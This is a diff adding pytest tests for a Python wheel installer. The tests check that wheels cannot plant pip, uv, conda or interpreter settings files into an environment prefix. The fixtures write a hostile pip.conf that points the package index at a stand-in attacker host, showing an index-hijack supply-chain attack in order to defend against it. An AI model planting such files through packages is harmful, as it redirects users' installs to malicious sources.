@@ -1,0 +1,108 @@
+"""Settings of installers, and other files that decide what an environment is."""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from hostile.archives import rebuilt
+from hostile.conftest import Site
+
+from wheelfit.testing.wheels import build_wheel
+
+IN_PREFIX = {
+    "pip.conf": "settings of pip",
+    "PIP.INI": "settings of pip",
+    "uv.toml": "settings of uv",
+    "wheelfit.toml": "settings of wheelfit",
+    "pdm.toml": "settings of pdm",
+    "poetry.toml": "settings of poetry",
+    ".pypirc": "settings of twine",
+    ".condarc": "settings of conda",
+    "pyvenv.cfg": "tells the Python interpreter",
+    "bin/activate.fish": "activates the environment",
+    "bin/Activate.ps1": "activates the environment",
+    "bin/activate_this.py": "activates the environment",
+    "bin/pybuilddir.txt": "tells the Python interpreter",
+    "bin/python3.99": "the Python interpreter",
+}
+HARMLESS = [
+    "demo/pip.conf",
+    "demo-2.data/data/share/demo/pip.conf",
+    "demo-2.data/data/etc/uv.toml",
+    "demo-2.data/data/share/man/man1/demo.1",
+    "demo-2.data/data/pyproject.toml",
+    "demo-2.data/scripts/activate-demo",
+    "demo-2.data/scripts/pip.conf",
+    "uv.toml",
+    "pip.conf",
+]
+
+
+def wheel_with(site: Site, member: str) -> Path:
+    """Make a wheel with one more file, under a name of its own, so that no cache has it."""
+    folder = site.wheels / hashlib.sha256(member.encode()).hexdigest()
+    folder.mkdir(exist_ok=True)
+    wheel = build_wheel(folder, "demo", "2")
+    content = b"[global]\nindex-url = https://attacker.example/simple\n"
+    wheel.write_bytes(rebuilt(wheel, {member: content}))
+    return wheel
+
+
+@pytest.mark.parametrize("options", [(), ("--replace-files",)], ids=["", "replacing"])
+def test_no_wheel_brings_them(site: Site, options: tuple[str, ...]) -> None:
+    """A file that names an index, or what Python is, is refused in every spelling."""
+    for path in ("bin/activate.fish", "bin/Activate.ps1"):
+        (site.venv / path).unlink(missing_ok=True)  # else it is in the way already
+    for path, reason in IN_PREFIX.items():
+        wheel = wheel_with(site, f"demo-2.data/data/{path}")
+        said = site.refused(wheel, *options, code=4)
+        assert said.error["code"] == "invalid-wheel"
+        assert reason in said.error["message"], path
+        assert f"{path} " in said.error["message"]
+
+
+def test_into_a_target_from_the_root(site: Site) -> None:
+    """The root of a target is its prefix: a wheel needs no ``.data`` folder to reach it."""
+    site.flat = True
+    for member in ("pip.conf", "uv.toml", "demo-2.data/data/pip.conf", "pyvenv.cfg"):
+        said = site.refused(wheel_with(site, member), code=4)
+        assert "may not be written" in said.error["message"]
+
+
+def test_into_a_prefix(site: Site) -> None:
+    """A prefix that the user names is a prefix too."""
+    prefix = site.folder / "prefix"
+    wheel = wheel_with(site, "demo-2.data/data/pip.conf")
+    said = site.bare("install", "--no-index", "--prefix", prefix, wheel, "--json")
+    assert said.code == 4
+    assert "settings of pip" in said.error["message"]
+
+
+def test_others_are_not_meant(site: Site) -> None:
+    """The same names elsewhere are data of the package."""
+    for member in HARMLESS:
+        site.run("install", wheel_with(site, member), "--force-reinstall")
+
+
+def test_pip_goes_on_asking_whom_it_did(site: Site) -> None:
+    """What the attack is for: pip of the environment reads ``pip.conf`` of its prefix."""
+    (site.venv / "pip.conf").write_text("[global]\nindex-url = https://attacker.example/simple\n")
+    said = subprocess.run(
+        [sys.executable, "-m", "pip", "--python", site.venv, "config", "list"],
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=120,
+        env={key: value for key, value in os.environ.items() if not key.startswith("PIP_")},
+    )
+    if said.returncode:
+        pytest.skip(f"this pip cannot be asked: {said.stderr.strip()[-80:]}")
+    assert "attacker.example" in said.stdout
+    (site.venv / "pip.conf").unlink()
+    site.refused(wheel_with(site, "demo-2.data/data/pip.conf"), code=4)
+    assert not (site.venv / "pip.conf").exists()
